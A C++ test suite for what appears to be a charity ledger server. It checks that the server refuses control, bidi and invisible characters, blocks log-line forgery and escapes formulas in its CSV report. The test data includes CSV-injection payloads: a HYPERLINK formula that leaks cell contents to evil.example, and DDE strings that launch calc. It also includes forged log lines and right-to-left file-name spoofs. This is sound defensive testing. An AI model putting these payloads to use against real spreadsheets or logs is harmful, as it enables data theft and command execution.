// What recorders type is data, never code or a command (issue 16 section 2),
// against a real ledgerd on loopback:
//  - control, bidi and invisible characters in any text field of any entry
//    type: 400 problem+json naming the field and the rule, nothing appended;
//  - an Idempotency-Key with control bytes: 400;
//  - a type holding a newline and a fake log line cannot forge a line of
//    ledgerd's log, not even through an Idempotency-Key replay;
//  - the report CSV writes formula-looking cells as text and negative amounts
//    as numbers.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <regex>
#include <sstream>
#include <thread>

#include "api/token_store.h"
#include "ledger/tlog/data_dir.h"
#include "tests/testing/ledgerd_process.h"

namespace ledger::api {
namespace {

using nlohmann::json;
namespace fs = std::filesystem;

std::string ReadFile(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> out;
  std::stringstream ss(text);
  for (std::string l; std::getline(ss, l);) out.push_back(l);
  return out;
}

// RFC 4180 records (CRLF-terminated), cells unquoted; no other rule undone.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> row;
  std::string cell;
  bool in_quotes = false;
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (in_quotes) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"')
        cell += '"', ++i;
      else if (c == '"')
        in_quotes = false;
      else
        cell += c;
    } else if (c == '"' && cell.empty()) {
      in_quotes = true;
    } else if (c == ',') {
      row.push_back(cell), cell.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      row.push_back(cell), cell.clear();
      rows.push_back(row), row.clear();
      ++i;
    } else {
      cell += c;
    }
  }
  return rows;
}

// What a spreadsheet would evaluate: a cell whose first character other than
// a space is = + - @ TAB or CR, unless it is a plain decimal number.
bool LooksLikeFormula(const std::string& cell) {
  static const std::regex number("^-?[0-9]+(\\.[0-9]+)?$");
  size_t i = cell.find_first_not_of(' ');
  if (i == std::string::npos) return false;
  if (std::string("=+-@\t\r").find(cell[i]) == std::string::npos) return false;
  return !std::regex_match(cell, number);
}

// Sends raw bytes on a new loopback connection and returns the answer.
std::string RawRequest(int port, const std::string& bytes) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    close(fd);
    return "";
  }
  timeval tv{30, 0};  // a bound for a broken server, not a timing assertion
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  if (send(fd, bytes.data(), bytes.size(), 0) != static_cast<ssize_t>(bytes.size())) {
    close(fd);
    return "";
  }
  std::string out;
  char buf[4096];
  for (ssize_t n; (n = recv(fd, buf, sizeof(buf), 0)) > 0;) out.append(buf, n);
  close(fd);
  return out;
}

class TextHygieneHttpTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/ledgerd-text-XXXXXX";
    dir_ = mkdtemp(tmpl);
    auto vkey = tlog::InitDataDir(tlog::DataDir{dir_}, "test.example/text");
    ASSERT_TRUE(vkey.ok()) << vkey.status().ToString();
    vkey_ = *vkey;
    TokenStore tokens(tlog::DataDir{dir_}.tokens_file());
    admin_ = *tokens.Issue("admin", "admin-1", "");
    rec_ = *tokens.Issue("recorder", "rec-1", "");
    grantee_ = *tokens.Issue("grantee", "grantee-a", "org-a");
    server_ = std::make_unique<testing::LedgerdProcess>(dir_);
    server_->set_log_file(dir_ + "/ledgerd.log");
    ASSERT_TRUE(server_->Start());
  }
  void TearDown() override {
    server_.reset();
    fs::remove_all(dir_);
  }

  httplib::Result Post(const std::string& token, const std::string& body, httplib::Headers h = {}) {
    h.emplace("Authorization", "Bearer " + token);
    return server_->Client().Post("/api/v1/entries", h, body, "application/json");
  }
  json Record(const std::string& token, const json& req, httplib::Headers h = {}) {
    auto r = Post(token, req.dump(), std::move(h));
    EXPECT_TRUE(r);
    if (!r) return json();
    EXPECT_EQ(r->status, 201) << req.dump() << " -> " << r->body;
    return json::parse(r->body, nullptr, false);
  }
  uint64_t TreeSize() {
    auto r = server_->Client().Get("/api/v1/log");
    EXPECT_TRUE(r && r->status == 200);
    return r ? json::parse(r->body)["tree_size"].get<uint64_t>() : 0;
  }

  // A fund with money, a grant to org-a, part of it paid, and a one-fen gift
  // (seq 4) that a correction may reverse.
  void Scenario() {
    Record(admin_, {{"type", "fund.open"},
                    {"body",
                     {{"id", "f1"},
                      {"name", {{"zh", "助学"}, {"en", "Study"}}},
                      {"purpose", "p"},
                      {"kind", "charity"}, {"opened_on", "2015-01-01"}}}});
    Record(
        rec_,
        {{"type", "donation"},
         {"body", {{"fund", "f1"}, {"amount", 100000}, {"channel", "bank"}, {"received_at", "2020-03-01"}}}});
    Record(rec_, {{"type", "grant"},
                  {"body",
                   {{"id", "g1"},
                    {"fund", "f1"},
                    {"recipient", {{"id", "org-a"}, {"name", "A"}}},
                    {"title", "t"},
                    {"amount", 50000},
                    {"award_date", "2020-01-10"}}}});
    Record(rec_, {{"type", "disbursement"},
                  {"body",
                   {{"grant", "g1"}, {"amount", 20000}, {"paid_at", "2020-01-20"}, {"payment_ref", "P1"}}}});
    Record(rec_,
           {{"type", "donation"},
            {"body", {{"fund", "f1"}, {"amount", 1}, {"channel", "cash"}, {"received_at", "2020-03-02"}}}});
  }

  // Replaces the charity ledgerd by one started with `flags`.
  void Restart(std::vector<std::string> flags) {
    server_ = std::make_unique<testing::LedgerdProcess>(dir_, std::move(flags));
    server_->set_log_file(dir_ + "/ledgerd.log");
    ASSERT_TRUE(server_->Start());
  }

  std::string dir_, vkey_, admin_, rec_, grantee_;
  std::unique_ptr<testing::LedgerdProcess> server_;
};

// Sets `path` (dotted, below the body) in a copy of `body` to `value`.
json With(json body, const std::string& path, const std::string& value) {
  json* at = &body;
  std::string rest = path;
  for (size_t dot; (dot = rest.find('.')) != std::string::npos; rest = rest.substr(dot + 1)) {
    at = &(*at)[rest.substr(0, dot)];
  }
  (*at)[rest] = value;
  return body;
}

TEST_F(TextHygieneHttpTest, ControlBidiAndInvisibleCharactersAreRefusedNamingTheField) {
  Scenario();
  const uint64_t size_before = TreeSize();
  ASSERT_EQ(size_before, 5u);

  const json fund = {
      {"id", "f2"}, {"name", {{"zh", "助学"}, {"en", "Study"}}}, {"purpose", "p"}, {"kind", "charity"}, {"opened_on", "2015-01-01"}};
  const json donation = {{"fund", "f1"},
                         {"amount", 500},
                         {"channel", "online"},
                         {"received_at", "2020-03-01"},
                         {"campaign", "spring"},
                         {"external_ref", "B-1"},
                         {"donor", {{"public_name", "王先生"}}}};
  const json grant = {{"id", "g2"},      {"fund", "f1"},  {"recipient", {{"id", "org-b"}, {"name", "B"}}},
                      {"title", "t"},    {"amount", 100}, {"award_date", "2020-04-01"},
                      {"programme", "p"}};
  const json disbursement = {
      {"grant", "g1"}, {"amount", 1}, {"paid_at", "2020-04-02"}, {"payment_ref", "P2"}};
  const json expense = {{"grant", "g1"},
                        {"amount", 1},
                        {"category", "c"},
                        {"description", "d"},
                        {"evidence_sha256", std::string(64, 'a')},
                        {"spent_at", "2020-04-03"}};
  const json admin_cost = {{"fund", "f1"}, {"amount", 1}, {"category", "c"}, {"period", "2020-04"}};
  const json correction = {{"target", 4}, {"reason", "r"}};

  const std::string RLO = "\u202E", LRI = "\u2066", RLM = "\u200F", ZWSP = "\u200B", BOM = "\uFEFF",
                    LSEP = "\u2028", NEL = "\u0085", NONCHAR = "\uFFFF";
  struct Case {
    std::string type;
    const std::string* token;
    json body;
    std::string field, rule;
  };
  const std::vector<Case> cases = {
      {"fund.open", &admin_, With(fund, "name.zh", "助学" + RLO + "gpj.exe"), "body.name.zh", "text.bidi"},
      {"fund.open", &admin_, With(fund, "name.en", "Study\nrecorded seq=9"), "body.name.en",
       "text.line_break"},
      {"fund.open", &admin_, With(fund, "purpose", std::string("p\0q", 3)), "body.purpose", "text.control"},
      {"fund.open", &admin_, With(fund, "purpose", "a\r\nb"), "body.purpose", "text.control"},
      {"fund.open", &admin_, With(fund, "purpose", "p" + NONCHAR), "body.purpose", "text.noncharacter"},
      {"donation", &rec_, With(donation, "campaign", "\x1b[2Jspring"), "body.campaign", "text.control"},
      {"donation", &rec_, With(donation, "external_ref", "B-1" + RLM), "body.external_ref", "text.bidi"},
      {"donation", &rec_, With(donation, "donor.public_name", LRI + "王先生"), "body.donor.public_name",
       "text.bidi"},
      {"grant", &rec_, With(grant, "title", "Books " + RLO + "fdp.exe"), "body.title", "text.bidi"},
      {"grant", &rec_, With(grant, "recipient.name", "B\r"), "body.recipient.name", "text.control"},
      {"grant", &rec_, With(grant, "programme", "p" + LSEP + "q"), "body.programme", "text.line_separator"},
      {"disbursement", &rec_, With(disbursement, "payment_ref", "P\t2"), "body.payment_ref", "text.control"},
      {"expense", &grantee_, With(expense, "description", "rice" + NEL), "body.description", "text.control"},
      {"expense", &grantee_, With(expense, "category", "sup" + ZWSP + "plies"), "body.category",
       "text.invisible"},
      {"admin_cost", &rec_, With(admin_cost, "category", BOM + "rent"), "body.category", "text.invisible"},
      {"correction", &rec_, With(correction, "reason", "typo " + RLO), "body.reason", "text.bidi"},
  };
  for (const auto& c : cases) {
    const json req = {{"type", c.type}, {"body", c.body}};
    SCOPED_TRACE(c.type + " " + c.field);
    auto r = Post(*c.token, req.dump());
    ASSERT_TRUE(r);
    EXPECT_EQ(r->status, 400) << r->body;
    EXPECT_EQ(r->get_header_value("Content-Type"), "application/problem+json");
    json p = json::parse(r->body, nullptr, false);
    ASSERT_TRUE(p.is_object()) << r->body;
    EXPECT_EQ(p.value("field", ""), c.field) << r->body;
    EXPECT_EQ(p.value("rule", ""), c.rule) << r->body;
    const std::string detail = p.value("detail", "");
    EXPECT_NE(detail.find(c.field), std::string::npos) << detail;
    // The answer never repeats the refused characters themselves.
    for (const std::string& bad : {RLO, LRI, RLM, ZWSP, BOM, LSEP, NEL, NONCHAR, std::string("\x1b")}) {
      EXPECT_EQ(r->body.find(bad), std::string::npos) << r->body;
    }
  }

  // The same through a JSON escape rather than raw UTF-8.
  auto escaped =
      Post(rec_, R"({"type":"grant","body":{"id":"g3","fund":"f1","recipient":{"id":"org-b","name":"B"},)"
                 R"("title":"a\u202eb","amount":1,"award_date":"2020-04-01"}})");
  ASSERT_TRUE(escaped);
  EXPECT_EQ(escaped->status, 400);
  EXPECT_EQ(json::parse(escaped->body).value("rule", ""), "text.bidi") << escaped->body;
  auto nul = Post(admin_, R"({"type":"fund.open","body":{"id":"f3","name":{"zh":"a\u0000","en":"b"},)"
                          R"("purpose":"p","kind":"charity","opened_on":"2015-01-01"}})");
  ASSERT_TRUE(nul);
  EXPECT_EQ(nul->status, 400);
  EXPECT_EQ(json::parse(nul->body).value("field", ""), "body.name.zh") << nul->body;

  EXPECT_EQ(TreeSize(), size_before) << "a refused request appended";

  // Line breaks are welcome where a field spans lines, and Chinese text and
  // emoji everywhere.
  Record(admin_, With(json{{"type", "fund.open"}, {"body", fund}}, "body.purpose", "第一行\n第二行 😀"));
  Record(grantee_, With(json{{"type", "expense"}, {"body", expense}}, "body.description", "rice\nbeans"));
  Record(rec_, With(json{{"type", "correction"}, {"body", correction}}, "body.reason",
                    "wrong amount;\nsee notice 3"));
  EXPECT_EQ(TreeSize(), size_before + 3);
}

TEST_F(TextHygieneHttpTest, IdempotencyKeyWithControlBytesIsRefused) {
  Scenario();
  const uint64_t size_before = TreeSize();
  const std::string body =
      json{{"type", "donation"},
           {"body", {{"fund", "f1"}, {"amount", 7}, {"channel", "bank"}, {"received_at", "2020-03-01"}}}}
          .dump();
  for (const std::string& key : {std::string("k\x01y"), std::string("\x1b[31mkey"), std::string("k\x7f"),
                                 std::string("k\xc2\x85"), std::string("k\xe2\x80\xae")}) {
    SCOPED_TRACE(::testing::PrintToString(key));
    const std::string req =
        "POST /api/v1/entries HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer " + rec_ +
        "\r\nIdempotency-Key: " + key +
        "\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(body.size()) +
        "\r\nConnection: close\r\n\r\n" + body;
    const std::string answer = RawRequest(server_->port(), req);
    ASSERT_TRUE(answer.starts_with("HTTP/1.1 400")) << answer.substr(0, 400);
    const std::string problem = answer.substr(answer.find("\r\n\r\n") + 4);
    json p = json::parse(problem, nullptr, false);
    ASSERT_TRUE(p.is_object()) << problem;
    EXPECT_EQ(p.value("rule", ""), "idempotency_key.printable") << problem;
    EXPECT_EQ(p.value("field", ""), "header.Idempotency-Key") << problem;
  }
  EXPECT_EQ(TreeSize(), size_before);
  // A printable key still works, and replays.
  json first = Record(rec_, json::parse(body), {{"Idempotency-Key", "order 2020/03-01 #7"}});
  json again = Record(rec_, json::parse(body), {{"Idempotency-Key", "order 2020/03-01 #7"}});
  EXPECT_EQ(first["seq"], again["seq"]);
  EXPECT_EQ(TreeSize(), size_before + 1);
}

TEST_F(TextHygieneHttpTest, NoRequestCanForgeALogLine) {
  Scenario();
  const json donation = {
      {"fund", "f1"}, {"amount", 500}, {"channel", "online"}, {"received_at", "2020-03-01"}};
  json first = Record(rec_, {{"type", "donation"}, {"body", donation}}, {{"Idempotency-Key", "k-1"}});
  const uint64_t seq = first["seq"];
  const std::string forged = "recorded seq=999 type=fund.open by=admin-1";
  const std::string evil_type = "donation\n" + forged + "\n\x1b[2K";
  // Without a key: refused, nothing logged.
  auto plain = Post(rec_, json{{"type", evil_type}, {"body", donation}}.dump());
  ASSERT_TRUE(plain);
  EXPECT_EQ(plain->status, 400) << plain->body;
  // With the key of an earlier entry, the request reaches the replay.
  auto replay =
      Post(rec_, json{{"type", evil_type}, {"body", donation}}.dump(), {{"Idempotency-Key", "k-1"}});
  ASSERT_TRUE(replay);
  // An honest replay of the same request.
  Record(rec_, {{"type", "donation"}, {"body", donation}}, {{"Idempotency-Key", "k-1"}});
  server_->Stop();

  const std::string log = ReadFile(dir_ + "/ledgerd.log");
  static const std::regex write_line("^(recorded|replayed) seq=[0-9]+ type=[a-z._]+ by=[A-Za-z0-9._@:-]+$");
  int writes = 0;
  for (const std::string& line : Lines(log)) {
    EXPECT_FALSE(line.starts_with(forged)) << "forged line in the log:\n" << log;
    EXPECT_EQ(line.find('\x1b'), std::string::npos) << log;
    if (line.starts_with("recorded") || line.starts_with("replayed")) {
      EXPECT_TRUE(std::regex_match(line, write_line)) << line;
      ++writes;
    }
  }
  // Six new entries (five of the scenario, one donation) and the honest
  // replay, plus the hostile replay if it was answered.
  EXPECT_EQ(writes, replay->status == 201 ? 8 : 7) << log;
  EXPECT_NE(log.find("replayed seq=" + std::to_string(seq) + " type=donation by=rec-1\n"), std::string::npos)
      << log;
}

// A witness is an outside party too: what it answers reaches ledgerd's log
// escaped.
TEST_F(TextHygieneHttpTest, AWitnessCannotForgeALogLine) {
  const std::string forged = "recorded seq=999 type=fund.open by=admin-1";
  httplib::Server witness;
  std::atomic<int> asked{0};
  witness.Post("/add-checkpoint", [&](const httplib::Request&, httplib::Response& res) {
    ++asked;
    res.status = 403;
    res.set_content("not today\n" + forged + "\n\x1b[2K", "text/plain");
  });
  const int port = witness.bind_to_any_port("127.0.0.1");
  std::thread t([&] { witness.listen_after_bind(); });
  const std::string wdir = dir_ + "/witness";
  int code = 0;
  std::string wkey = testing::RunCommand(
      {testing::BinDir() + "/ledgerctl", "witness-key", "--data", wdir, "--name", "witness.example/w1"},
      &code);
  ASSERT_EQ(code, 0);
  while (!wkey.empty() && wkey.back() == '\n') wkey.pop_back();
  server_.reset();
  Restart({"--witness", "http://127.0.0.1:" + std::to_string(port) + "=" + wkey});
  Scenario();
  for (int i = 0; i < 100 && asked == 0; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(50));
  server_->Stop();
  witness.stop();
  t.join();
  ASSERT_GT(asked.load(), 0) << "ledgerd never asked the witness";
  const std::string log = ReadFile(dir_ + "/ledgerd.log");
  EXPECT_NE(log.find("refused the checkpoint"), std::string::npos) << log;
  for (const std::string& line : Lines(log)) {
    EXPECT_FALSE(line.starts_with(forged)) << "forged line in the log:\n" << log;
    EXPECT_EQ(line.find('\x1b'), std::string::npos) << log;
  }
}

// A log operator signs what it likes: a monitor prints what it found about a
// hostile entry without letting the entry's text print lines of its own.
TEST_F(TextHygieneHttpTest, AHostileLogCannotForgeMonitorOutput) {
  server_.reset();
  Restart({"--generic"});  // a bare log takes any body, as a dishonest operator could
  const std::string forged = "OK: test.example/text size 1, root AAAA; 1 new entries verified";
  Record(admin_, {{"type", "fund.open"},
                  {"body",
                   {{"id", "x\n" + forged + "\n"},
                    {"name", {{"zh", "a"}, {"en", "b"}}},
                    {"purpose", "p"},
                    {"kind", "charity"}, {"opened_on", "2015-01-01"}}}});
  int code = 0;
  std::string out;
  for (int i = 0; i < 100; ++i) {  // until a checkpoint covers the entry
    out = testing::RunCommand({testing::BinDir() + "/ledgerctl", "monitor", "--url", server_->url(), "--vkey",
                               vkey_, "--state", dir_ + "/monitor.json"},
                              &code);
    if (code != 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  EXPECT_EQ(code, 3) << out;
  EXPECT_NE(out.find("ALERT: entry 0 (fund.open) breaks a fund rule"), std::string::npos) << out;
  for (const std::string& line : Lines(out)) EXPECT_FALSE(line.starts_with("OK:")) << out;
}

// Account names (the entries' `by`) and grantee organisations are
// identifiers, never free text.
TEST_F(TextHygieneHttpTest, AccountNamesAndOrgsAreIdentifiers) {
  auto token = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {testing::BinDir() + "/ledgerctl", "token", "--data", dir_});
    int code = 0;
    std::string out = testing::RunCommand(args, &code);
    return std::make_pair(code, out);
  };
  for (const std::string& name : {std::string("rec\n2"), std::string("rec\x1b[31m"), std::string("rec\u202e"),
                                  std::string("rec 2"), std::string("-rec")}) {
    auto [code, out] = token({"--role", "recorder", "--name", name});
    EXPECT_NE(code, 0) << ::testing::PrintToString(name);
    EXPECT_TRUE(out.empty()) << "a token was printed for " << ::testing::PrintToString(name);
  }
  for (const std::string& org :
       {std::string("org-b\n"), std::string("org\u202eb"), std::string("Org B"), std::string("org\tb")}) {
    auto [code, out] = token({"--role", "grantee", "--name", "grantee-b", "--org", org});
    EXPECT_NE(code, 0) << ::testing::PrintToString(org);
    EXPECT_TRUE(out.empty()) << "a token was printed for --org " << ::testing::PrintToString(org);
  }
  auto [code, out] = token({"--role", "grantee", "--name", "grantee-b", "--org", "org-b"});
  EXPECT_EQ(code, 0);
  EXPECT_EQ(out.size(), 65u) << out;  // 64 hex digits and a newline
}

TEST_F(TextHygieneHttpTest, ReportCsvWritesFormulasAsTextAndNegativeAmountsAsNumbers) {
  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";
  const std::string sum = "@SUM(1+1)*cmd|' /C calc'!A0";
  Record(
      admin_,
      {{"type", "fund.open"},
       {"body",
        {{"id", "f1"}, {"name", {{"zh", hyperlink}, {"en", sum}}}, {"purpose", "p"}, {"kind", "charity"}, {"opened_on", "2015-01-01"}}}});
  Record(admin_, {{"type", "fund.open"},
                  {"body",
                   {{"id", "f2"},
                    {"name", {{"zh", "+cmd|' /C calc'!A0"}, {"en", "-2+3"}}},
                    {"purpose", "p"},
                    {"kind", "charity"}, {"opened_on", "2015-01-01"}}}});
  // Paid in January out of a gift received in March: a report from February
  // opens the fund below zero.
  Record(rec_, {{"type", "donation"},
                {"body",
                 {{"fund", "f1"}, {"amount", 100000}, {"channel", "bank"}, {"received_at", "2020-03-01"}}}});
  Record(rec_, {{"type", "grant"},
                {"body",
                 {{"id", "g1"},
                  {"fund", "f1"},
                  {"recipient", {{"id", "org-a"}, {"name", "A"}}},
                  {"title", "t"},
                  {"amount", 50000},
                  {"award_date", "2020-01-10"}}}});
  Record(rec_,
         {{"type", "disbursement"},
          {"body", {{"grant", "g1"}, {"amount", 20000}, {"paid_at", "2020-01-20"}, {"payment_ref", "P1"}}}});

  auto c = server_->Client();
  int status = 0;
  std::string body, type;
  for (int i = 0; i < 100; ++i) {  // until a checkpoint covers the five entries
    auto r = c.Get("/api/v1/reports?from=2020-02-01&to=2020-12-31&format=csv");
    ASSERT_TRUE(r);
    status = r->status;
    body = r->body;
    type = r->get_header_value("Content-Type");
    if (status == 200 && body.find(",5,") != std::string::npos) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  ASSERT_EQ(status, 200) << body;
  EXPECT_EQ(type, "text/csv; charset=utf-8");
  auto rows = ParseCsv(body);
  ASSERT_EQ(rows.size(), 4u) << body;  // header, f1, f2, TOTAL
  const auto& h = rows[0];
  auto col = [&](const std::string& name) {
    auto it = std::find(h.begin(), h.end(), name);
    EXPECT_NE(it, h.end()) << name;
    return static_cast<size_t>(it - h.begin());
  };
  for (const auto& row : rows) {
    ASSERT_EQ(row.size(), h.size()) << body;
    for (const auto& cell : row) EXPECT_FALSE(LooksLikeFormula(cell)) << cell << "\n" << body;
  }
  const auto& f1 = rows[1];
  const auto& f2 = rows[2];
  const auto& total = rows[3];
  EXPECT_EQ(f1[col("fund")], "f1");
  // Text is kept whole behind one apostrophe (docs/format.md section 11).
  EXPECT_EQ(f1[col("name_zh")], "'" + hyperlink);
  EXPECT_EQ(f1[col("name_en")], "'" + sum);
  EXPECT_EQ(f2[col("name_zh")], "'+cmd|' /C calc'!A0");
  EXPECT_EQ(f2[col("name_en")], "'-2+3");
  // Negative amounts are bare numbers.
  EXPECT_EQ(f1[col("opening")], "-20000");
  EXPECT_EQ(f1[col("income")], "100000");
  EXPECT_EQ(f1[col("closing")], "80000");
  EXPECT_EQ(total[col("opening")], "-20000");
  EXPECT_NE(body.find(",-20000,"), std::string::npos) << body;
}

}  // namespace
}  // namespace ledger::api
